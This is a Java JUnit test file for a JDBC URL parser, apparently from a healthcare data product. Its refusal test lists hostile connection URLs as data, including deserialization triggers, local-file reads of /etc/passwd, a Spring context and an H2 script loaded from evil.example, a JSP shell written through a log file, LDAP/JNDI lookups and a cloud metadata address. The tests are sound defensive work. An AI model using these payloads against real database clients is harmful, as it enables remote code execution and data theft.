package cn.jingshu.products.domain.load;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import cn.jingshu.products.domain.load.SourceAddress.Encryption;
import java.nio.file.Path;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class DatabaseEnginesTest {
    private static final DatabaseEngines WITH_OTHERS = DatabaseEngines.of(Set.of("dm@jdbc:dm://{host}:{port}/{database}",
            "mssql@jdbc:sqlserver://{host}:{port};databaseName={database};encrypt=true"), Path.of("nowhere"));

    @ParameterizedTest
    @CsvSource(quoteCharacter = '\0', textBlock = """
            jdbc:postgresql://register.example/leases,                      postgresql, register.example, 5432, leases,  PREFERRED
            jdbc:postgresql://register.example:6432/leases?sslmode=require, postgresql, register.example, 6432, leases,  ENCRYPTED
            jdbc:mysql://10.1.2.3/住院,                                      mysql,      10.1.2.3,         3306, 住院,     PREFERRED
            jdbc:mariadb://db.example:3307/his?sslMode=verify-full,         mysql,      db.example,       3307, his,     VERIFIED
            jdbc:mysql://db.example/his?sslMode=disable,                    mysql,      db.example,       3306, his,     NONE
            jdbc:dm://db.example:5236/HIS,                                  dm,         db.example,       5236, HIS,     PREFERRED
            jdbc:sqlserver://db.example:1433;databaseName=his;encrypt=true, mssql,      db.example,       1433, his,     PREFERRED
            """)
    void anAddressIsReadByUs(String url, String engine, String host, int port, String database, Encryption encryption) {
        DatabaseUrl read = WITH_OTHERS.read(url);
        assertThat(read.engine().name()).isEqualTo(engine);
        assertThat(read.host()).isEqualTo(host);
        assertThat(read.port()).isEqualTo(port);
        assertThat(read.database()).isEqualTo(database);
        assertThat(read.encryption()).isEqualTo(encryption);
    }

    /** Ways addresses of databases have been used to read files, make objects and call elsewhere. */
    @ParameterizedTest
    @ValueSource(strings = {
        "jdbc:mysql://db.example/his?allowLoadLocalInfile=true",
        "jdbc:mysql://db.example/his?allowLocalInfile=true",
        "jdbc:mysql://db.example/his?sslMode=disable&allowUrlInLocalInfile=true",
        "jdbc:mysql://db.example/his?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
        "jdbc:mysql://db.example/his?%61utoDeserialize=true",
        "jdbc:mysql://db.example/his?sslmode=disable%26autoDeserialize=true",
        "jdbc:mysql://db.example/his?socketFactory=evil.Factory",
        "jdbc:mariadb://db.example/his?credentialType=ENV",
        "jdbc:mariadb://db.example/his?serverSslCert=/etc/passwd",
        "jdbc:mariadb://db.example/his?sessionVariables=sql_mode=''",
        "jdbc:mysql://db.example/his?user=root&password=geheim",
        "jdbc:mysql://root:geheim@db.example/his",
        "jdbc:mysql://address=(host=db.example)(allowLoadLocalInfile=true)/his",
        "jdbc:mysql://(host=db.example,autoDeserialize=true)/his",
        "jdbc:mysql://db.example,169.254.169.254/his",
        "jdbc:mysql:loadbalance://db.example/his",
        "jdbc:mysql+srv://db.example/his",
        "jdbc:mariadb:replication://db.example,other.example/his",
        "jdbc:mysql://db.example/his#autoDeserialize=true",
        "jdbc:mysql://db.example/his;autoDeserialize=true",
        "jdbc:mysql://db.example/his?sslMode=DISABLED",
        "jdbc:mysql://db.example/",
        "jdbc:mysql://db.example:99999999999/his",
        " jdbc:mysql://db.example/his",
        "jdbc:mysql://db.example/his\n?autoDeserialize=true",
        "jdbc:postgresql://db.example/his?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil.example/x.xml",
        "jdbc:postgresql://db.example/his?sslfactory=evil.Factory",
        "jdbc:postgresql://db.example/his?loggerLevel=TRACE&loggerFile=/tmp/shell.jsp",
        "jdbc:postgresql://db.example/his?authenticationPluginClassName=evil.Plugin",
        "jdbc:postgresql:///his",
        "jdbc:postgresql:his",
        "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
        "jdbc:derby:memory:x;create=true",
        "jdbc:sqlite:/etc/passwd",
        "jdbc:oracle:thin:@ldap://evil.example/x",
        "jdbc:db2://db.example:50000/his:clientRerouteServerListJNDIName=ldap://evil.example/x;",
        "jdbc:dm://db.example:5236/HIS?socketFactory=evil",
        "jdbc:dm://db.example:5236/HIS;x=y",
        "jdbc:sqlserver://db.example:1433;databaseName=his;encrypt=true;socketFactoryClass=evil.Factory",
        "jdbc:sqlserver://db.example:1433;databaseName=his;socketFactoryClass=evil.Factory;encrypt=true",
        "file:///etc/passwd",
    })
    void aHostileAddressIsRefusedAndNotRepeated(String url) {
        assertThatThrownBy(() -> WITH_OTHERS.read(url).engine().at(new SourceAddress("db.example", WITH_OTHERS.read(url).port(), "x", null, null, Encryption.NONE, null)))
                .isInstanceOf(IllegalArgumentException.class).hasNoCause()
                .satisfies(refused -> assertThat(refused.getMessage()).doesNotContain("geheim").doesNotContain("evil.").doesNotContain("/etc/passwd"));
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "dm", "dm@", "@jdbc:dm://{host}:{port}/{database}", "DM@jdbc:dm://{host}:{port}/{database}", "dm@dm://{host}:{port}/{database}", "dm@jdbc:dm://db.example:5236/{database}",
        "dm@jdbc:dm://{host}:{port}/{database}?user=SYSDBA", "dm@jdbc:dm://{host}:{port}/{database}?password=x", "mysql@jdbc:other://{host}:{port}/{database}",
        "dm@jdbc:dm://{host}:{port}/{table}",
    })
    void aFormOfNoAddressStopsTheStart(String named) {
        assertThatThrownBy(() -> DatabaseEngines.of(Set.of(named), Path.of("nowhere"))).isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void whatIsFilledInStaysWhatItIs() {
        DatabaseEngine dm = WITH_OTHERS.find("dm").orElseThrow();
        for (String database : new String[] {"HIS?x=y", "HIS;x=y", "../x", "a b", "HIS&x", "{port}", "a/b"}) {
            assertThatThrownBy(() -> dm.at(new SourceAddress("10.0.0.1", 5236, database, null, null, Encryption.NONE, null))).as(database)
                    .isInstanceOf(IllegalArgumentException.class);
        }
        for (String host : new String[] {"10.0.0.1:1/x?", "a@b", "a/b", "a;b", "{database}"}) {
            assertThatThrownBy(() -> dm.at(new SourceAddress(host, 5236, "HIS", null, null, Encryption.NONE, null))).as(host)
                    .isInstanceOf(IllegalArgumentException.class);
        }
        assertThat(dm.at(new SourceAddress("2001:db8::1", 5236, "HIS", null, null, Encryption.NONE, null))).isNotNull();
        assertThat(new SourceAddress("10.0.0.1", 5236, "HIS", "reader", "geheim", Encryption.NONE, null).toString()).doesNotContain("geheim");
        assertThat(WITH_OTHERS.find("oracle")).isEmpty();
        assertThat(DatabaseEngines.BUILT_IN.find("dm")).isEmpty();
    }
}
